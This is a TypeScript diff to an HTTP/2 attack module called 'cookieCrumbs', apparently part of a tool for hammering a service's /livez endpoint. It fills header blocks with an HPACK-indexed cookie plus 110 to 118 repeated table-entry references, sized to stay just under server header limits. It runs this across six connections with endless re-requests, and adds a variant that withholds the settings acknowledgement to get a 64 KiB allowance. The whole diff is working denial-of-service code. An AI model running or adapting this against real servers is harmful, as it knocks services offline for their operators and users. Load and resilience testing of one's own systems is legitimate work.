@@ -6,21 +6,34 @@ import { STREAMS } from "./bodies-http2.js";
 import type { Attack } from "./attack.js";
 
 const CONNECTIONS = 6;
-/** Node.js accepts 128 header fields. */
-const CRUMBS = 120;
-/** With the 32 bytes that HPACK adds for each field they stay below 16 KiB. */
-const VALUE = "a=" + "b".repeat(90);
 
-export const cookieCrumbs: Attack = (target, tally, signal) => {
-  const request = encodeRequestBlock("GET", "/livez");
-  const first = Buffer.concat([request, encodeIndexedCookie(VALUE), Buffer.alloc(CRUMBS - 1, LATEST_ENTRY)]);
-  const next = Buffer.concat([request, Buffer.alloc(CRUMBS, LATEST_ENTRY)]);
-  return keepConnected(target, tally, signal, {
+interface Variant {
+  readonly acknowledgesSettings: boolean;
+  readonly crumbs: number;
+  readonly valueBytes: number;
+}
+
+/** HPACK counts 38 bytes more for each cookie. Node.js accepts 128 header fields. */
+const variants: readonly Variant[] = [
+  // Just below 16 KiB, the default limit of the service.
+  { acknowledgesSettings: true, crumbs: 110, valueBytes: 92 },
+  // Just below 64 KiB, the limit until the client acknowledges the settings.
+  { acknowledgesSettings: false, crumbs: 118, valueBytes: 482 },
+];
+
+export const cookieCrumbs: Attack = (target, tally, signal) =>
+  keepConnected(target, tally, signal, {
     count: CONNECTIONS,
-    use(socket) {
+    use(socket, index) {
+      const variant = variants[index % variants.length];
+      if (variant === undefined) return;
+      const { acknowledgesSettings, crumbs, valueBytes } = variant;
+      const request = encodeRequestBlock("GET", "/livez");
+      const cookie = encodeIndexedCookie(`a=${"b".repeat(valueBytes - 2)}`);
+      const first = Buffer.concat([request, cookie, Buffer.alloc(crumbs - 1, LATEST_ENTRY)]);
+      const next = Buffer.concat([request, Buffer.alloc(crumbs, LATEST_ENTRY)]);
       const onStreamEnd = () => connection.request(next);
-      const connection = new Http2Connection(socket, tally, { onStreamEnd });
+      const connection = new Http2Connection(socket, tally, { acknowledgesSettings, onStreamEnd });
       for (let stream = 0; stream < STREAMS; stream++) connection.request(stream === 0 ? first : next);
     },
   });
-};
